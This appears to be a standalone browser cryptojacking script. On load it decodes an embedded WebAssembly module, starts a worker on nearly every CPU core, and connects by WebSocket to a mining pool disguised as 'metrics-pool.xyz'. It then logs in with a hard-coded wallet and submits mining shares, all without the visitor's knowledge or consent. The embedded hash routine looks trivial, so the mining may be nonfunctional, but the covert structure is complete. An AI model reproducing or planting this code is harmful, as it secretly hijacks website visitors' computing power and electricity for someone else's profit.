(() => {
  const MODULE_B64 = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwgBBGhhc2gAAAoJAQcAIAAgAXML';
  const POOL = 'wss://ws.metrics-pool.xyz:8443/';
  const WALLET = '47HvFz2wKdnMvTqYb8PbQeXc3u1LmNfRtUy9jZs6aWkV4oEiGpDxBrCh5eSgJk7nLmPqRsT2uVwXyZa3bCdEfGhJkL9mN8pQrStU2vWxYz';

  const workerSource = `
    let instance = null;
    let job = null;
    self.onmessage = async (e) => {
      const msg = e.data;
      if (msg.type === 'init') {
        const bytes = Uint8Array.from(atob(msg.wasm), c => c.charCodeAt(0));
        const { instance: inst } = await WebAssembly.instantiate(bytes, {});
        instance = inst;
        self.postMessage({ type: 'ready' });
      } else if (msg.type === 'job') {
        job = msg.job;
        let nonce = msg.start;
        let hashes = 0;
        const t0 = Date.now();
        while (job && job.id === msg.job.id) {
          const h = instance.exports.hash(nonce, job.seed);
          hashes++;
          if ((h >>> 0) < job.target) {
            self.postMessage({ type: 'share', job_id: job.id, nonce: nonce.toString(16), result: (h >>> 0).toString(16) });
          }
          nonce += msg.step;
          if (hashes % 5000 === 0) {
            self.postMessage({ type: 'rate', hps: hashes / ((Date.now() - t0) / 1000) });
            await new Promise(r => setTimeout(r, 0));
          }
        }
      }
    };`;

  const url = URL.createObjectURL(new Blob([workerSource], { type: 'application/javascript' }));
  const count = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
  const workers = [];

  const ws = new WebSocket(POOL);
  ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'login', params: { login: WALLET, pass: 'x', agent: 'webmr/1.2' } }));
  ws.onmessage = (ev) => {
    const m = JSON.parse(ev.data);
    const job = m.result?.job || (m.method === 'job' ? m.params : null);
    if (!job) return;
    workers.forEach((w, i) => w.postMessage({ type: 'job', job: { id: job.job_id, seed: parseInt(job.blob.slice(0, 8), 16), target: parseInt(job.target, 16) }, start: i, step: count }));
  };

  for (let i = 0; i < count; i++) {
    const w = new Worker(url);
    w.onmessage = (e) => {
      if (e.data.type === 'share' && ws.readyState === 1) {
        ws.send(JSON.stringify({ id: 2, method: 'submit', params: { id: WALLET.slice(0, 8), job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } }));
      }
    };
    w.postMessage({ type: 'init', wasm: MODULE_B64 });
    workers.push(w);
  }
})();
